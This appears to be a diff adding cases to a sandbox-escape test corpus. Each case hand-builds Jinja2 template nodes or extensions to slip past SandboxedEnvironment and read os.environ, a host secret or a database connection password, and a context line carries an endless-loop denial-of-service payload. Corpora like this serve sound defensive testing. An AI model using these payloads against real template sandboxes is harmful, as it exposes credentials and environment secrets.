@@ -238,3 +238,39 @@ import sympy
 x, i = sympy.symbols("x i")
 f = sympy.lambdify([x], sympy.Function("total")(x), modules=[{"total": lambda n: sum(iter(int, 1)), "__name__": "fxhost"}])
 f(1)
+# --- nodes of a template that import | jinja2,jinja2.* | leak
+from jinja2 import nodes
+from jinja2.sandbox import SandboxedEnvironment
+environment = SandboxedEnvironment()
+tree = nodes.Template([nodes.Output([nodes.ImportedName("fxhost.HOST_SECRET")], lineno=1)], lineno=1)
+environment.from_string(tree.set_environment(environment)).render()
+# --- nodes of a template that import a module | jinja2,jinja2.* | expr:'FX_TOKEN' in outs
+from jinja2 import nodes
+from jinja2.sandbox import SandboxedEnvironment
+environment = SandboxedEnvironment()
+tree = nodes.Template([nodes.Output([nodes.ImportedName("os.environ")], lineno=1)], lineno=1)
+environment.from_string(tree.set_environment(environment)).render()
+# --- extension of a template that imports | jinja2,jinja2.* | leak
+from jinja2 import nodes
+from jinja2.ext import Extension
+from jinja2.sandbox import SandboxedEnvironment
+class Reads(Extension):
+    tags = {"reads"}
+    def parse(self, parser):
+        return nodes.Output([nodes.ImportedName("fxhost.HOST_SECRET")], lineno=next(parser.stream).lineno)
+SandboxedEnvironment(extensions=[Reads]).from_string("{% reads %}").render()
+# --- constant of a template whose text is code | jinja2,jinja2.* | leak
+from jinja2 import nodes
+from jinja2.sandbox import SandboxedEnvironment
+class Text(str):
+    def __repr__(self): return "context.vars['r']._conn.password"
+    __str__ = __repr__
+environment = SandboxedEnvironment()
+tree = nodes.Template([nodes.Output([nodes.Getattr(nodes.Name("r", "load"), Text("value"), "load")], lineno=1), nodes.If(nodes.Const(Text("a")), [], [], [], lineno=1)], lineno=1)
+environment.from_string(tree.set_environment(environment)).render(r=fetch_record())
+# --- member of the environment whose name is code | jinja2,jinja2.* | leak
+from jinja2 import nodes
+from jinja2.sandbox import SandboxedEnvironment
+environment = SandboxedEnvironment()
+tree = nodes.Template([nodes.Output([nodes.EnvironmentAttribute("globals or context.get_all()['r']._conn.password")], lineno=1)], lineno=1)
+environment.from_string(tree.set_environment(environment)).render(r=fetch_record())
